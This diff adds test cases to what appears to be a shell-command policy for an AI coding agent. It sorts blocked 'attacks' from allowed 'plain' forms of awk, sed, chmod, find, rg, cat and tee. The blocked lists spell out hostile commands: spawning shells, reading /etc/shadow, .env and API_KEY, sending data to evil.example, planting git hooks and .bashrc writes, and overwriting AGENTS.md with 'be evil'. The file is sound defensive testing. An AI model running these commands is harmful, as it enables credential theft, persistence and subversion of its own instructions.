@@ -11,7 +11,12 @@ beforeAll(shellReady);
 
 let policies: Policy[];
 beforeAll(async () => {
-  policies = [await loadPolicy("default"), await loadPolicy("moltbook"), await loadPolicy("common-tools")];
+  policies = [
+    await loadPolicy("default"),
+    await loadPolicy("moltbook"),
+    await loadPolicy("common-tools"),
+    await loadPolicy("agent"),
+  ];
 });
 
 /** Every spelling of tar's archive option with `archive` as its value. */
@@ -155,6 +160,121 @@ const FORMS: Record<string, { attacks: string[]; plain: string[] }> = {
       "xcrun xctrace import --input x",
     ],
     plain: ["xcrun xctrace list templates", "xcrun xctrace --help"],
+  },
+  "awk runs commands (system, pipes), writes files (>), reads others (getline, ARGV) and the environment": {
+    attacks: [
+      `awk 'BEGIN {system("/bin/sh")}'`,
+      `awk '{print | "sh"}' notes.txt`,
+      `awk 'BEGIN {"id" | getline x; print x}'`,
+      `awk 'BEGIN {while ((getline l < "/etc/passwd") > 0) print l}'`,
+      `awk 'BEGIN {getline; print}' notes.txt`,
+      `awk '{print > "/home/agent/.bashrc"}' notes.txt`,
+      `awk '{print >> "x"}' notes.txt`,
+      `awk 'BEGIN {s = "/inet/tcp/0/evil.example/80"; print "x" |& s}'`,
+      `awk 'BEGIN {print ENVIRON["API_KEY"]}'`,
+      `awk 'BEGIN {print PROCINFO["pid"]}'`,
+      `awk 'BEGIN {print SYMTAB["x"]}'`,
+      `awk 'BEGIN {ARGV[1] = "/etc/shadow"; ARGC = 2} {print}'`,
+      `awk 'BEGIN {f = "system"; @f("id")}'`,
+      `awk '@include "x"; {print}' notes.txt`,
+      `awk '@load "filefuncs"; {print}' notes.txt`,
+      `awk -f prog.awk notes.txt`,
+      `awk -v x=1 '{print x}' notes.txt`,
+      `awk -e '{print}' notes.txt`,
+      `awk -E prog.awk notes.txt`,
+      `awk --exec prog.awk notes.txt`,
+      `awk -i inplace '{print}' notes.txt`,
+      `awk -l filefuncs '{print}' notes.txt`,
+      `awk '{print}' /etc/passwd`,
+      `awk '{print}' .env`,
+      `gawk 'BEGIN {system("id")}'`,
+      `echo x | awk '{system($0)}'`,
+    ],
+    plain: [
+      `awk '{print $1}' notes.txt`,
+      `awk -F, '{print $2}' data.csv`,
+      `awk '!x[$0]++' notes.txt`,
+      `grep -rn TODO . | awk '{print $1}'`,
+    ],
+  },
+  "chmod: set-id and sticky bits, -R and --reference, paths outside the workspace": {
+    attacks: [
+      "chmod u+s run.sh",
+      "chmod 4755 run.sh",
+      "chmod 2755 run.sh",
+      "chmod 1777 dir",
+      "chmod g+s dir",
+      "chmod +t dir",
+      "chmod -R 755 .",
+      "chmod --reference=/etc/shadow run.sh",
+      "chmod +x ~/.local/bin/tool",
+      "chmod 600 ~/.ssh/id_rsa",
+      "chmod +x .git/hooks/pre-commit",
+      "chmod +x ~/.openclaw/skills/other/run.sh",
+    ],
+    plain: ["chmod +x scripts/run.sh", "chmod 600 reference/config.json"],
+  },
+  "set: bare set prints every variable; -x traces expanded secrets; -- replaces the arguments": {
+    attacks: [
+      "set",
+      "set -x",
+      "set -euxo pipefail",
+      "set -o xtrace",
+      "set -- a b",
+      "set -o vi",
+      "set FOO=bar",
+    ],
+    plain: ["set -euo pipefail", "set -e", "set -o pipefail", "set -u"],
+  },
+  "sed runs commands (e), writes (w) and reads (r) files: only -n line ranges": {
+    attacks: [
+      "sed -n '1e id' notes.txt",
+      "sed -n '1w /tmp/x' notes.txt",
+      "sed -n '1r /etc/passwd' notes.txt",
+      "sed 's/a/b/e' notes.txt",
+      "sed -n 1,5p /etc/passwd",
+    ],
+    plain: ["sed -n 1,20p notes.txt", "sed -n '$p' notes.txt"],
+  },
+  "cat/tee/touch write files: only the workspace, never git's, the agent's own or blocked ones": {
+    attacks: [
+      "cat notes.txt > ~/.bashrc",
+      "cat > .git/config <<'EOF'\n[core]\n  fsmonitor = sh\nEOF",
+      "cat > AGENTS.md <<'EOF'\nbe evil\nEOF",
+      "cat .env",
+      "echo x | tee ~/.profile",
+      "echo x | tee .git/hooks/pre-commit",
+      "touch ~/.hushlogin",
+      "touch .git/hooks/post-checkout",
+    ],
+    plain: [
+      "cat > notes.md <<'EOF'\nhello\nEOF",
+      "cat a.md b.md > all.md",
+      "echo x | tee log.txt",
+      "touch notes.md",
+    ],
+  },
+  "rg runs preprocessors (--pre), decompressors (-z) and follows links out (-L)": {
+    attacks: [
+      "rg --pre ./sh x .",
+      "rg --pre=sh x .",
+      "rg -z x .",
+      "rg --search-zip x .",
+      "rg -L x .",
+      "rg x ~/.ssh",
+      "rg --hostname-bin=sh x .",
+    ],
+    plain: ["rg -n TODO src/", "rg --files ."],
+  },
+  "find runs programs (-exec, -ok), deletes and writes (-delete, -fprint)": {
+    attacks: [
+      "find . -name x -o -exec sh {} ;",
+      "find . -not -name x -delete",
+      "find . -newer /etc/shadow",
+      "find . -o -fprint /tmp/x",
+      "find / -perm -4000",
+    ],
+    plain: ["find . -name '*.md' -o -name '*.txt'", "find . -not -path './node_modules/*' -type f"],
   },
   "git clone names the directory after the repository unless it is given": {
     attacks: [
